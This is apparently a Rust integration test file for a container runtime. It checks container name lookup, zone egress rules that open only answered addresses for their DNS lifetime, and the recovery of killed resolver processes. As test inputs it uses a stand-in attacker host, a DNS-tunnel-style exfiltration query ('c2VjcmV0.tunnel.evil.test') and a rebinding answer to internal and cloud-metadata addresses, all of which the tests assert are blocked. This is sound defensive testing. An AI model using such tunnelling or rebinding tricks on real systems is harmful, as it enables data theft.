//! Names: of containers, and of a zone's rules, by real questions and real connections between network namespaces that the test makes.
#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    clippy::print_stdout,
    reason = "tests: a failed unwrap is a failed test, a skip is said on stderr"
)]

mod support;

use std::path::Path;

use rustix::process::{Pid, Signal, kill_process};
use support::internet::Internet;
use support::{Home, Ran, busybox_home, eventually};

/// A server that answers each connection with "hello", until it is removed.
const SERVER: &str = "while :; do echo hello | busybox nc -l -p 80 >/dev/null 2>&1; done";

fn zone(home: &Home, name: &str, network: &str) {
    let text = format!("zone = \"{name}\"\n[network]\n{network}\n");
    let file = home.path().join(format!("{name}.toml"));
    std::fs::write(&file, text).unwrap();
    home.ok(&["zone", "apply", file.to_str().unwrap()]);
}

fn serve(home: &Home, flags: &[&str]) -> String {
    home.ok(&[&["run", "-d"], flags, &["busybox", "sh", "-c", SERVER]].concat())
}

/// A container that waits to be asked to do things.
fn waiting(home: &Home, flags: &[&str]) -> String {
    home.ok(&[&["run", "-d"], flags, &["busybox", "sleep", "1000"]].concat())
}

/// The addresses that a container gets for a name.
fn look_up(home: &Home, id: &str, name: &str) -> Vec<String> {
    let ran = home.run(&["exec", id, "busybox", "nslookup", name]);
    let answers = ran.out.lines().skip_while(|line| !line.starts_with("Name:"));
    let found = answers.filter_map(|line| line.strip_prefix("Address:"));
    let mut found: Vec<String> = found.map(|address| address.trim().to_owned()).collect();
    found.sort();
    found
}

/// What is answered to a connection from a container to port 80 of a name or address.
fn fetch(home: &Home, id: &str, target: &str) -> String {
    home.run(&["exec", id, "sh", "-c", "busybox nc -w 1 $0 80 </dev/null", target]).out.trim().to_owned()
}

fn addresses(home: &Home, id: &str) -> Vec<String> {
    let text = std::fs::read(home.path().join("state/containers").join(id).join("plan.json")).unwrap();
    let plan: serde_json::Value = serde_json::from_slice(&text).unwrap();
    let pairs = plan["network"]["addresses"].as_array().unwrap();
    let mut all: Vec<String> = pairs.iter().map(|it| it["address"].as_str().unwrap().to_owned()).collect();
    all.sort();
    all
}

/// Processes by their arguments and their folder in /proc.
fn processes(is_one: impl Fn(&str, &Path) -> bool) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else { continue };
        let arguments = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if is_one(&String::from_utf8_lossy(&arguments), &entry.path()) {
            found.push(pid);
        }
    }
    found
}

fn keepers(home: &Home) -> Vec<i32> {
    let path = home.path().to_str().unwrap().to_owned();
    processes(|arguments, _| {
        arguments.starts_with("cofferdam\0resolver-keeper\0") && arguments.contains(&path)
    })
}

fn resolvers(home: &Home) -> Vec<i32> {
    let keepers = keepers(home);
    processes(|arguments, folder| {
        let stat = std::fs::read_to_string(folder.join("stat")).unwrap_or_default();
        let parent = stat.rsplit_once(") ").and_then(|(_, rest)| rest.split(' ').nth(1)?.parse().ok());
        arguments.starts_with("/cofferdam-resolver") && parent.is_some_and(|pid| keepers.contains(&pid))
    })
}

fn kill(pid: i32) {
    kill_process(Pid::from_raw(pid).unwrap(), Signal::KILL).unwrap();
}

#[test]
fn containers_find_each_other_by_name_in_their_zone_and_in_those_they_reach() {
    let Some(home) = busybox_home("containers_find_each_other_by_name_in_their_zone_and_in_those_they_reach")
    else {
        return;
    };
    zone(&home, "web", "egress = [\"zone:db tcp/80\"]");
    zone(&home, "db", "ingress = [\"zone:web tcp/80\"]");
    let front = serve(&home, &["--zone", "web", "--name", "front", "--network-alias", "www"]);
    let store = serve(&home, &["--zone", "db", "--name", "store"]);
    let web = waiting(&home, &["--zone", "web", "--name", "asker"]);
    let db = waiting(&home, &["--zone", "db"]);
    assert_eq!(resolvers(&home), [0; 0], "nobody has asked anything");
    for name in ["front", "www", "front.web", &front[..12]] {
        assert_eq!(look_up(&home, &web, name), addresses(&home, &front), "{name}");
    }
    assert_eq!(fetch(&home, &web, "front"), "hello");
    assert_eq!(look_up(&home, &web, "store.db"), addresses(&home, &store));
    assert_eq!(fetch(&home, &web, "store.db"), "hello");
    for (asker, name) in [(&web, "store"), (&db, "front"), (&db, "front.web"), (&web, "nobody")] {
        assert_eq!(look_up(&home, asker, name), Vec::<String>::new(), "{name}");
    }
    home.ok(&["rename", "front", "face"]);
    assert_eq!(look_up(&home, &web, "face"), addresses(&home, &front));
    assert_eq!(look_up(&home, &web, "front"), Vec::<String>::new());
    home.ok(&["rm", "-f", "face"]);
    assert!(eventually(|| look_up(&home, &web, "face").is_empty()));
    // Read back: the container, and the resolver that answers it.
    let verified = home.run(&["verify", &web]);
    assert_eq!(verified.code, 0, "{verified:?}");
    assert!(verified.out.contains("resolver-web-"), "{}", verified.out);
    home.ok(&["rm", "-f", &store, &web, &db]);
    assert!(eventually(|| keepers(&home).is_empty() && resolvers(&home).is_empty()));
    assert_eq!(home.remains(), Vec::<String>::new());
    assert_eq!(support::cgroups_named("resolver-web-"), Vec::<std::path::PathBuf>::new());
}

#[test]
fn a_name_rule_opens_what_was_answered_for_its_time_and_nothing_else() {
    let Some(home) = busybox_home("a_name_rule_opens_what_was_answered_for_its_time_and_nothing_else") else {
        return;
    };
    let internet = Internet::new(home.path());
    internet.name("a.example.org", &["9.1.1.1"], 5);
    internet.name("long.example.org", &["9.1.1.3"], 600);
    internet.name("inside.example.org", &["192.168.77.1", "10.0.0.1", "127.0.0.1", "169.254.169.254"], 60);
    internet.name("data.evil.test", &["9.1.1.2"], 60);
    zone(&home, "named", "egress = [\"*.example.org tcp/80\"]\nlog = true");
    let web = waiting(&home, &["--zone", "named"]);
    for address in support::internet::SERVERS {
        assert_eq!(fetch(&home, &web, address), "", "{address} is closed before it is answered");
    }
    assert_eq!(look_up(&home, &web, "a.example.org"), ["9.1.1.1"]);
    let opened = std::time::Instant::now();
    assert_eq!(fetch(&home, &web, "9.1.1.1"), "hello from 9.1.1.1");
    assert_eq!(fetch(&home, &web, "9.1.1.2"), "", "only what was answered");
    assert_eq!(fetch(&home, &web, "long.example.org"), "hello from 9.1.1.3");
    // What the rules forbid is asked nowhere, and told.
    assert_eq!(look_up(&home, &web, "data.evil.test"), Vec::<String>::new());
    assert_eq!(look_up(&home, &web, "c2VjcmV0.tunnel.evil.test"), Vec::<String>::new());
    assert!(!internet.asked().iter().any(|name| name.ends_with("evil.test")), "{:?}", internet.asked());
    let events = || std::fs::read_to_string(home.path().join("state/denials.jsonl")).unwrap_or_default();
    assert!(eventually(|| events().contains("data.evil.test")), "{}", events());
    // Whoever owns an allowed name does not choose what of the host or its neighbours is reached.
    assert_eq!(look_up(&home, &web, "inside.example.org"), Vec::<String>::new());
    assert!(internet.asked().contains(&"inside.example.org".to_owned()));
    // Its time is over: the name has another address now, and the first one is closed.
    internet.name("a.example.org", &["9.1.1.2"], 5);
    std::thread::sleep(std::time::Duration::from_millis(5_300).saturating_sub(opened.elapsed()));
    assert_eq!(fetch(&home, &web, "9.1.1.1"), "");
    assert_eq!(look_up(&home, &web, "a.example.org"), ["9.1.1.2"]);
    assert_eq!(fetch(&home, &web, "9.1.1.2"), "hello from 9.1.1.2");
    assert_eq!(fetch(&home, &web, "9.1.1.1"), "");
    assert_eq!(fetch(&home, &web, "9.1.1.3"), "hello from 9.1.1.3", "the other one's time is not over");
    // A resolver that dies leaves what is open, and closes nothing.
    let [resolver] = resolvers(&home)[..] else { panic!("one resolver") };
    kill(resolver);
    assert_eq!(fetch(&home, &web, "9.1.1.3"), "hello from 9.1.1.3");
    assert_eq!(look_up(&home, &web, "a.example.org"), ["9.1.1.2"]);
    // What others have closed is opened again before it is answered.
    home.ok(&["zone", "verify", "--repair", "named"]);
    assert_eq!(fetch(&home, &web, "9.1.1.2"), "");
    assert_eq!(look_up(&home, &web, "a.example.org"), ["9.1.1.2"]);
    assert_eq!(fetch(&home, &web, "9.1.1.2"), "hello from 9.1.1.2");
    // Another zone's rules are another zone's.
    let other = waiting(&home, &[]);
    assert_eq!(look_up(&home, &other, "data.evil.test"), ["9.1.1.2"]);
    home.ok(&["rm", "-f", &web, &other]);
    assert_eq!(home.remains(), Vec::<String>::new());
}

#[test]
fn a_killed_resolver_and_a_killed_keeper_are_replaced() {
    let Some(home) = busybox_home("a_killed_resolver_and_a_killed_keeper_are_replaced") else { return };
    let front = serve(&home, &["--name", "front"]);
    let asker = waiting(&home, &[]);
    // Also by shims that have executed themselves anew.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let expected = addresses(&home, &front);
    assert_eq!(look_up(&home, &asker, "front"), expected);
    for _ in 0..3 {
        let [resolver] = resolvers(&home)[..] else { panic!("one resolver") };
        kill(resolver);
        assert_eq!(look_up(&home, &asker, "front"), expected);
        assert_ne!(resolvers(&home), [resolver]);
        let [keeper] = keepers(&home)[..] else { panic!("one keeper") };
        kill(keeper);
        assert!(eventually(|| look_up(&home, &asker, "front") == expected));
        assert!(!keepers(&home).contains(&keeper));
        assert_eq!(home.run(&["verify", &asker]).code, 0);
    }
    // Nobody is left to join again: the next command cleans up.
    let [keeper] = keepers(&home)[..] else { panic!("one keeper") };
    let shims = support::remains::processes_of(home.path(), &[front.clone(), asker.clone()]);
    for process in shims.iter().filter(|process| process.ours) {
        let _ = kill_process(Pid::from_raw(process.pid).unwrap(), Signal::STOP);
    }
    kill(keeper);
    for process in shims.iter().filter(|process| process.ours) {
        let _ = kill_process(Pid::from_raw(process.pid).unwrap(), Signal::KILL);
    }
    home.ok(&["ps", "-a"]);
    assert!(eventually(|| {
        home.ok(&["ps", "-a"]);
        keepers(&home).is_empty() && !has_plans(&home)
    }));
    home.ok(&["rm", "-f", &front, &asker]);
    assert_eq!(home.remains(), Vec::<String>::new());
}

fn has_plans(home: &Home) -> bool {
    let entries = std::fs::read_dir(home.path().join("run/resolver")).unwrap();
    entries.flatten().any(|entry| entry.file_name().to_string_lossy().ends_with(".plan.json"))
}

#[test]
fn containers_start_at_once_and_know_each_other() {
    const COUNT: usize = 12;
    let Some(home) = busybox_home("containers_start_at_once_and_know_each_other") else { return };
    let started: Vec<_> = (0..COUNT)
        .map(|number| {
            let mut command = home.command();
            command.args(["run", "-d", "--name", &format!("c{number}"), "busybox", "sleep", "1000"]);
            command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
            command.spawn().unwrap()
        })
        .collect();
    let ended: Vec<Ran> = started.into_iter().map(|child| child.wait_with_output().unwrap().into()).collect();
    assert!(ended.iter().all(|ran| ran.code == 0), "{ended:?}");
    assert_eq!(keepers(&home).len(), 1);
    for number in 0..COUNT {
        assert_eq!(look_up(&home, "c0", &format!("c{number}")).len(), 2, "c{number}");
    }
    let ids: Vec<&str> = ended.iter().map(|ran| ran.out.trim()).collect();
    home.ok(&[&["rm", "-f"], ids.as_slice()].concat());
    assert!(eventually(|| keepers(&home).is_empty()));
}
